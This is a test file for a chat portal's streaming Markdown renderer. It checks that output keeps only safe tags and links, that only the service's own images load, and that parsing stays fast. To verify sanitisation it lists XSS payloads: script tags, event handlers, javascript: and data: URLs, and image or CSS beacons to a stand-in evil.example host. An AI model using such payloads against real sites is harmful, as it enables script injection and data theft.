import { parseBlock, splitBlocks } from '@portal/contracts/markdown/block.ts'
import { parseInline, toSafeAddress } from '@portal/contracts/markdown/inline.ts'
import { act, render, screen } from '@testing-library/react'
import fc from 'fast-check'
import { ConversationProvider } from '../context.tsx'
import { Markdown } from './Markdown.tsx'

const own = 'https://portal.example/api/chat/file/'

function draw(text: string, isComing = false) {
  const load = jest.fn(() => new Promise<Blob>(() => {}))
  const { container, rerender, unmount } = render(<Shown text={text} isComing={isComing} load={load} />)
  return {
    container,
    load,
    unmount,
    grow: (more: string, coming: boolean) => rerender(<Shown text={more} isComing={coming} load={load} />),
  }
}

const Shown = ({ text, isComing, load }: { text: string; isComing: boolean; load: () => Promise<Blob> }) => (
  <ConversationProvider resources={own} load={load}>
    <Markdown text={text} isComing={isComing} />
  </ConversationProvider>
)

const allowed = new Set(
  'DIV P H2 H3 UL OL LI STRONG EM DEL CODE PRE BR HR A BLOCKQUOTE TABLE THEAD TBODY TR TH TD SPAN'.split(' '),
)
const attributes = new Set([
  'class',
  'href',
  'target',
  'rel',
  'start',
  'tabindex',
  'scope',
  'role',
  'aria-label',
])

/** Asserts invariants of any text. */
function expectHarmless(container: HTMLElement) {
  if (container.querySelector('a a, a button, button button'))
    throw new Error(`within each other: ${container.innerHTML}`)
  for (const element of container.querySelectorAll('*')) {
    if (!allowed.has(element.tagName)) throw new Error(`drawn: ${element.outerHTML}`)
    for (const { name, value } of element.attributes) {
      if (!attributes.has(name)) throw new Error(`drawn: ${element.outerHTML}`)
      if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) throw new Error(`leads to: ${value}`)
    }
    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer')
      throw new Error(element.outerHTML)
  }
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)><animate onbegin=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a><base href="https://evil.example/">',
  '<style>*{background:url(https://evil.example/?q)}</style><link rel=stylesheet href=//evil.example>',
  '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](data:text/html,<script>1</script>)',
  '[click](java\nscript:alert(1)) [x](vbscript:1) [x]( javascript:alert(1)) [x](\u0001javascript:1)',
  '![secret](https://evil.example/?q=serial) ![secret](//evil.example/a.png)',
  '![secret](https://portal.example.evil.example/api/a.png) ![s](https://portal.example@evil.example/api/a.png)',
  '![s](https://portal.example/api/../../steal) ![s](data:image/svg+xml,<svg onload=alert(1)>) ![s](blob:https://portal.example/1)',
  '**<img src=x onerror=alert(1)>** `<script>` | <b>a</b> |\n|---|\n| <script>alert(1)</script> |',
  '[![in](https://evil.example/a.png)](https://evil.example/b) <https://evil.example>',
  '```html\n<script>alert(1)</script>\n```\n- <img src=x onerror=alert(1)>\n> <iframe>',
  '# <script>alert(1)</script>\n1. <object data=x></object>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;',
  '[a [b](https://b.example) https://c.example](https://d.example)',
  '[a](https://user:secret@evil.example/) [a](https://good.example/"onmouseover="alert(1))',
]

test.each(attacks)('never renders markup of %j, wherever the stream is cut', (attack) => {
  const { container, load, grow } = draw('', true)
  for (let end = 1; end <= attack.length; end++) {
    grow(attack.slice(0, end), true)
    expectHarmless(container)
  }
  grow(attack, false)
  expectHarmless(container)
  expect(load).not.toHaveBeenCalled()
})

test('never renders HTML of any text', () => {
  const part = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom(
      '**',
      '*',
      '_',
      '`',
      '```\n',
      '[',
      '](',
      ')',
      '![',
      '<',
      '>',
      '\n',
      '\n\n',
      '- ',
      '1. ',
      '# ',
      '| ',
      '~~',
      '\\',
      '  ',
    ),
    fc.string({ maxLength: 12 }),
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 14 }), fc.boolean(), (parts, isComing) => {
      const { container, unmount } = draw(parts.join(''), isComing)
      expectHarmless(container)
      unmount()
    }),
    { numRuns: 300 },
  )
})

test('renders the same result regardless of how the text is split', () => {
  const part = fc.constantFrom(
    '**bold** ',
    '`code` ',
    '\n\n',
    '\n- item',
    '\n1. step',
    '\n## Head\n',
    'plain ',
    '[a](https://x.example) ',
    '\n| a | b |',
  )
  fc.assert(
    fc.property(
      fc.array(part, { minLength: 1, maxLength: 12 }),
      fc.array(fc.nat(120), { maxLength: 6 }),
      (parts, cuts) => {
        const text = parts.join('')
        const once = draw(text)
        const pieces = draw('', true)
        for (const cut of [...cuts].sort((a, b) => a - b)) pieces.grow(text.slice(0, cut), true)
        pieces.grow(text, false)
        expect(pieces.container.innerHTML).toBe(once.container.innerHTML)
        once.unmount()
        pieces.unmount()
      },
    ),
    { numRuns: 100 },
  )
})

test('keeps completed blocks unchanged while the text grows', () => {
  const line = fc.constantFrom(
    'text',
    '',
    '- item',
    '  - below',
    '1. step',
    '# head',
    '> said',
    '| a | b |',
    '```',
    '---',
    '   more',
  )
  fc.assert(
    fc.property(fc.array(line, { minLength: 2, maxLength: 16 }), fc.nat(15), (lines, at) => {
      const whole = splitBlocks(lines.join('\n'))
      const part = splitBlocks(lines.slice(0, at + 1).join('\n'))
      expect(whole.slice(0, Math.max(0, part.length - 1))).toEqual(part.slice(0, -1))
    }),
  )
})

test('CHAT-51 renders headings, bold and bulleted bold items', () => {
  const { container } = draw('### Reset\n\nHold **ENTER**:\n\n- **First** press\n- **Second** wait')
  expect(screen.getByRole('heading', { name: 'Reset' })).toBeVisible()
  expect([...container.querySelectorAll('strong')].map(({ textContent }) => textContent)).toEqual([
    'ENTER',
    'First',
    'Second',
  ])
  expect(screen.getAllByRole('listitem')).toHaveLength(2)
})

test('keeps numbers and nested content of steps', () => {
  const { container } = draw('3. Open the cover\n   - two screws\n   - one clip\n4. Press')
  expect(container.querySelector('ol')).toHaveAttribute('start', '3')
  expect(container.querySelectorAll('ol > li')).toHaveLength(2)
  expect(container.querySelectorAll('ol > li > ul > li')).toHaveLength(2)
})

test('renders a table', () => {
  draw('| Code | Meaning |\n|---|---|\n| E01 | **Grid** lost |')
  expect(screen.getByRole('columnheader', { name: 'Code' })).toBeVisible()
  expect(screen.getByRole('cell', { name: 'Grid lost' })).toBeVisible()
})

test('labels rows by the first cell when its header is empty, and renders no empty header', () => {
  draw('| | 6K | 8K |\n|---|---|---|\n| Power | 6 kW | 8 kW |\n| | | per phase |')
  expect(screen.getAllByRole('columnheader').map(({ textContent }) => textContent)).toEqual(['6K', '8K'])
  expect(screen.getAllByRole('rowheader').map(({ textContent }) => textContent)).toEqual(['Power'])
})

test('renders an open mark early, and as text if it is never closed', () => {
  expect(parseInline('Hold **ENT', true)).toEqual(['Hold ', { kind: 'strong', children: ['ENT'] }])
  expect(parseInline('Hold **', true)).toEqual(['Hold '])
  expect(parseInline('Hold **ENT')).toEqual(['Hold **ENT'])
  expect(parseInline('see [the manual](https://exa', true)).toEqual(['see the manual'])
  expect(parseBlock('##', true)).toEqual({ kind: 'paragraph', text: '' })
})

test('renders marks within words as text', () => {
  expect(parseInline('snake_case_name, 2 * 3 * 4')).toEqual(['snake_case_name, 2 * 3 * 4'])
})

test('opens links in a new window without a referrer', () => {
  draw('See https://portal.example/manual.pdf, or [here](https://portal.example/a_(b)).')
  for (const link of screen.getAllByRole('link')) {
    expect(link).toHaveAttribute('target', '_blank')
    expect(link).toHaveAttribute('rel', 'noopener noreferrer')
  }
  expect(screen.getByRole('link', { name: 'https://portal.example/manual.pdf' })).toHaveAttribute(
    'href',
    'https://portal.example/manual.pdf',
  )
  expect(toSafeAddress('javascript:alert(1)')).toBeUndefined()
})

test("loads the service's own images with the session, and shows the alt text of others", async () => {
  const { container, load } = draw(
    '![The display](/api/chat/file/1) ![Elsewhere](https://evil.example/a.png)',
  )
  await act(async () => {})
  expect(load).toHaveBeenCalledTimes(1)
  expect(load).toHaveBeenCalledWith('https://portal.example/api/chat/file/1', expect.anything())
  expect(container).toHaveTextContent('Elsewhere')
})

/** CPU time in milliseconds, which other processes do not affect. */
function workOf(act: () => void): number {
  const before = process.cpuUsage()
  act()
  const { user, system } = process.cpuUsage(before)
  return (user + system) / 1000
}
/** Takes the fastest run, to exclude garbage collection. */
const best = (act: () => void) => Math.min(...Array.from({ length: 5 }, () => workOf(act)))

test('parses twenty thousand open marks in linear time', () => {
  const work = workOf(() => {
    for (const mark of ['**a', '*', '_', '[', '`', '![', '~~', '(https://', '|'])
      parseInline(mark.repeat(20_000 / mark.length), true)
  })
  expect(work).toBeLessThan(5_000)
})

const spaced = (count: number) => ' '.repeat(count)
test.each<[string, (count: number) => string]>([
  ['a heading', (count) => `# a${spaced(count)}b`],
  ['a heading of marks', (count) => `# a${'#'.repeat(count)}b`],
  ['a heading over a line separator', (count) => `#${spaced(count)}a\u2028b`],
  ['an item over a line separator', (count) => `-${spaced(count)}a\u2028b`],
  ['a rule that is none', (count) => `- -${spaced(count)}a`],
  ['open marks', (count) => '*a '.repeat(count / 3)],
  ['back ticks', (count) => `${'`'.repeat(count)}a`],
])('four times as much of %s takes no more than about four times as long', (_, textOf) => {
  const timeOf = (text: string) => best(() => [parseBlock(text), parseInline(text), parseInline(text, true)])
  const once = timeOf(textOf(12_000))
  // Quadratic growth would take sixteen times as long; the remaining margin is for the coarse clock.
  expect(timeOf(textOf(48_000))).toBeLessThan(once * 8 + 8)
})

describe('overflowing content', () => {
  const wide = (is: boolean) => {
    jest.spyOn(Element.prototype, 'scrollWidth', 'get').mockReturnValue(is ? 900 : 300)
    jest.spyOn(Element.prototype, 'clientWidth', 'get').mockReturnValue(300)
  }
  const text = '```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'
  afterEach(() => jest.restoreAllMocks())

  test('is focusable and labelled, without a duplicate landmark', () => {
    wide(true)
    draw(text)
    for (const name of ['Code', 'Table'])
      expect(screen.getByRole('group', { name })).toHaveAttribute('tabindex', '0')
    expect(screen.queryByRole('region')).not.toBeInTheDocument()
  })

  test('is neither focusable nor labelled when it fits', () => {
    wide(false)
    const { container } = draw(text)
    expect(container.querySelector('[tabindex], [role]')).toBeNull()
  })
})

test('joins the two blocks before an incoming line if the line continues them', () => {
  expect(splitBlocks('- a\n\n-')).toHaveLength(2)
  expect(splitBlocks('- a\n\n- b')).toHaveLength(1)
})
